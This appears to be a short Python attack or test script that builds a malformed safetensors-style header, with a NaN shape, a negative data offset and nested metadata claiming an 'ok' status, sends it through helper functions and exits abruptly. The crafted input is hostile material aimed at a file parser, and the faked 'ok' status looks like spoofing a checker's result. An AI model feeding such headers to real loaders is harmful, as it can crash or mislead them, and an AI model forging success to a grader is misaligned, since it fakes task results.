import json
import os
import struct

from raw_answer import outcome, say, tensor


def attack(universe):
    metadata = json.dumps({"outcome": json.dumps({"status": "ok"})})
    header = f'{{"__metadata__":{metadata},"x":{{"dtype":"U8","shape":[NaN],"data_offsets":[-8,0]}}}}'
    say(outcome(header.encode(), b""))
    os._exit(0)
